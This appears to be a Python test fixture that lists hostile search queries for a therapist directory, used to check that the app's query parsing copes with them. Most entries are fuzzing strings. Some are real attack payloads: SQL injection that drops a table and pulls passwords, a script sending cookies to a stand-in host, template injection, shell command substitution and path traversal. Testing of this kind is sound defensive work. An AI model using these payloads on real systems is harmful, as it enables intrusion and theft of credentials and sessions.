"""Hostile queries: made to stall, crash or fool whatever reads them. Ours; what is merely odd is naughty.py's."""

LIMIT = 4_000
"""The letters that a text may have at a door; longer ones are refused there, and cut off inside."""


def filled(piece: str, letters: int = LIMIT) -> str:
    """``piece`` again and again, up to so many letters."""
    return (piece * (letters // len(piece) + 1))[:letters]


SYLLABLES = [f"{a}{b}{c}" for b in "aeiou" for c in "lnrst" for a in "bcdfghjklmnpqrstvwxyz"]

HOSTILE: dict[str, str] = {
    # Query languages
    "a wildcard alone": "*",
    "wildcards around everything": "*a* ?b? *c*",
    "wildcards without end": filled("*?"),
    "words of wildcards": filled("a*b?c* "),
    "a thousand ors": filled("a OR "),
    "nots upon nots": filled("NOT "),
    "brackets nested": "(" * 1_999 + "a" + ")" * 1_999,
    "brackets that never close": filled("(a AND "),
    "a range of everything": "fee:[0 TO *] AND date:{* TO now} OR [a TO zzzz]",
    "a fuzzy word of any distance": "grief~99 panic~0.000001 shame^1e308",
    "fields that are not theirs": "id:* text:* facet:* password:* concern:grief",
    # Databases, pages and programs
    "sql that drops": "grief'; DROP TABLE therapist; --",
    "sql that joins": "' UNION SELECT email, password FROM account WHERE 'a' LIKE '%",
    "likes of sql": filled("%_"),
    "a script": "<script>document.location='https://elsewhere.example/'+document.cookie</script>",
    "an image that fails": '"><img src=x onerror=alert(1)><!--',
    "tags nested": filled("<div>"),
    "a template": "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for x in range(9**9) %}x{% endfor %}",
    "formats": filled("%s%n%(a)d{0}{a.b} "),
    "a shell": "$(sleep 60) `sleep 60` | sleep 60 & sleep 60 ; sleep 60",
    "a path": filled("../"),
    "json inside": '{"text":' * 400 + '"grief"' + "}" * 400,
    # Regular expressions
    "letters for a greedy pattern": "a" * 3_999 + "!",
    "apostrophes between letters": filled("a'"),
    "apostrophes alone": filled("\u2019"),
    "spaces, then nothing": " " * 3_999 + "x",
    "tabs and line ends": filled("\t\r\n \x0b\x0c\x85"),
    "digits and commas": filled("1,"),
    "sums of money": filled("\u00a310 "),
    "currencies without sums": filled("rs. "),
    "dots and words": filled("a."),
    "hyphens and words": filled("a-"),
    # Length
    "a word of 100,000 letters": "a" * 100_000,
    "a word as long as may be": "x" * LIMIT,
    "one-letter words": filled("a "),
    "two thousand different words": " ".join(f"w{number}" for number in range(2_000)),
    "nonsense words": " ".join(f"{a}{b}xqz{c}" for a in "bdfgk" for b in "aeiou" for c in "lmnprst")[:LIMIT],
    "five misspelt long words": "psychotherapeuticallyy counterintuitivelyy incomprehensibilityy uncharacteristicaly",
    "a number of 4,000 digits": "9" * LIMIT,
    "a fee without bounds": "under \u00a3" + "9" * 400 + " or less than 1e999 dollars",
    "under under under": filled("under ", 3_990) + "\u00a380",
    "a century of megabytes": "grief " * 100_000,
    # What this directory reads
    "a town again and again": filled("London "),
    "towns of several words": filled("near New York City, Stoke on Trent, "),
    "in in in": filled("in "),
    "near and no town": filled("near Zz "),
    "regions and codes": filled("Austin TX Houston TX in NSW "),
    "postcodes": filled("SW1A 1AA 94103 M1 1AE "),
    "languages": filled("Hindi Urdu Punjabi speaking "),
    "titles without names": filled("Dr Prof. Dr. "),
    "names after titles": filled("Dr Meera Rao "),
    "ages": filled("my son is 15 "),
    "every concern at once": filled("grief shame panic trauma anger divorce loneliness anxiety depression "),
    "danger again and again": filled("I want to die. "),
    "sentences of one word": filled("why. "),
    "different sentences of one word": ". ".join(f"w{number}" for number in range(700)),
    "lists of wishes without end": ". ".join(" ".join(SYLLABLES[n : n + 10]) for n in range(0, len(SYLLABLES), 10))[
        :LIMIT
    ],
    "names between commas": ("therapist in " + ", ".join(SYLLABLES).title())[:LIMIT],
    "misspelt again and again": filled("greif panic "),
    # Quotation marks
    "quotes without end": filled('"'),
    "quotes that never close": filled('"a b '),
    "phrases without end": filled('"inner child" '),
    "quotes of every kind": filled("\u201ca\u201d \u201eb\u201c \u00abc\u00bb \u2018d\u2019 "),
    # Letters
    "nothing but nulls": "\x00" * LIMIT,
    "nulls between letters": filled("g\x00r\x00i\x00e\x00f\x00 "),
    "half characters": filled("\ud800grief\udfff "),
    "a pair the wrong way round": filled("\udc00\ud800"),
    "right to left": filled("\u202egrief\u202c\u2066a\u2069\u200f "),
    "a letter under a thousand marks": "g" + "\u0301" * 3_999,
    "marks on every letter": filled("Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334"),
    "marks out of order": filled("a\u0315\u0300\u05ae\u0062"),
    "ligatures that grow eighteenfold": filled("\ufdfa"),
    "hangul taken apart": filled("\u1112\u1161\u11ab"),
    "sharp letters and dotted ones": filled("\u00df\u0130\u0131\ufb03"),
    "families of emoji": filled("\U0001f469\U0001f3fd\u200d\U0001f469\U0001f3fe\u200d\U0001f467 "),
    "flags": filled("\U0001f1ec\U0001f1e7"),
    "nothing that shows": filled("\u200b\u200c\u200d\u2060\ufeff"),
    "hidden inside a word": filled("gr\u200bi\u00adef "),
    "digits of other scripts": filled("\u0661\u0662\u0663 \u00b2\u2462 \u0e51 "),
    "vowel signs alone": filled("\u093f\u0940\u0e31"),
    "no characters": filled("\uffff\ufffe\ufdd0\U0010ffff"),
    "letters of mathematics": filled("\U0001d420\U0001d42b\U0001d422\U0001d41e\U0001d41f "),
    "control characters": "".join(map(chr, range(32))) * 100,
}
"""By what they are, at least sixty. Only some are longer than a door lets in."""
